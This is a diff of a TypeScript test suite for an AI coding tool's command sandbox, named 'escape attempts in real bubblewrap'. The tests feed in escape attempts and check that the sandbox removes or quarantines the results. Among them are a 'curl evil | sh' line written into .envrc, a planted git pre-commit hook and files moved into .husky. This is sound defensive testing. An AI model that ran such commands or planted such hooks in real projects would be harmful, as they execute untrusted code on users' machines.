@@ -16,7 +16,8 @@ import * as path from 'node:path';
 import { runCommandTool } from '../../language-server/tools/builtins/runCommandTool';
 import { runShellCommand } from '../../language-server/tools/processTreeRunner';
 import type { CommandSandbox } from '../../language-server/tools/sandbox/commandSandbox';
-import { probeCommandSandbox } from '../../language-server/tools/sandbox/detectCommandSandbox';
+import { bubblewrapSandbox } from '../../language-server/tools/sandbox/bubblewrapSandbox';
+import { findOnPath, probeCommandSandbox } from '../../language-server/tools/sandbox/detectCommandSandbox';
 import { unsandboxed } from '../../language-server/tools/sandbox/unsandboxed';
 import type { ToolContext } from '../../language-server/tools/toolContext';
 import { TurnCheckpoints } from '../../language-server/tools/turnCheckpoints';
@@ -60,6 +61,8 @@ describe('command sandbox: escape attempts in real bubblewrap', function () {
 
   beforeEach(async () => {
     ws = await makeToolWorkspace(GUARDED_FILES);
+    // Paths the audit takes away are kept in the test's own temp folder, which afterEach removes.
+    sandbox = bubblewrapSandbox({ bwrap: findOnPath('bwrap', process.env.PATH ?? '')!, quarantine: ws.base });
   });
 
   afterEach(() => ws.cleanup());
@@ -348,7 +351,16 @@ describe('command sandbox: escape attempts in real bubblewrap', function () {
     it('removes a new .envrc', async () => {
       const r = await run('echo "curl evil | sh" > .envrc');
       assert.equal(existsSync(path.join(ws.root, '.envrc')), false);
-      assert.match(r.content, /The command created \.envrc, which Hearth removed: \.envrc is a shell script direnv runs/);
+      assert.match(r.content, /The command created \.envrc, which Hearth removed \(moved to \S+\): \.envrc is a shell script direnv runs/);
+    });
+
+    it("keeps the user's files that a command moved into a new guarded path", async () => {
+      const r = await run('mkdir .husky && mv src .husky/');
+      assert.equal(existsSync(path.join(ws.root, '.husky')), false);
+      const moved = /which Hearth removed \(moved to (\S+)\)/.exec(r.content)?.[1];
+      assert.ok(moved, r.content);
+      assert.equal(await fs.readFile(path.join(moved, 'src/index.js'), 'utf8'), GUARDED_FILES['src/index.js']);
+      assert.ok(moved.startsWith(`${ws.base}/`), 'kept outside the workspace');
     });
 
     it('removes new .husky/ hooks', async () => {
@@ -382,7 +394,7 @@ describe('command sandbox: escape attempts in real bubblewrap', function () {
       await fs.rm(path.join(ws.root, '.git'), { recursive: true });
       const r = await run('mkdir -p .git/hooks && echo "[core]" > .git/config && printf "#!/bin/sh\\nevil\\n" > .git/hooks/pre-commit');
       assert.equal(existsSync(path.join(ws.root, '.git')), false);
-      assert.match(r.content, /The command created \.git, which Hearth removed: a new git directory that could run code: it has the hook pre-commit/);
+      assert.match(r.content, /The command created \.git, which Hearth removed \(moved to \S+\): a new git directory that could run code: it has the hook pre-commit/);
     });
 
     it('removes a new .git whose config runs a program', async () => {
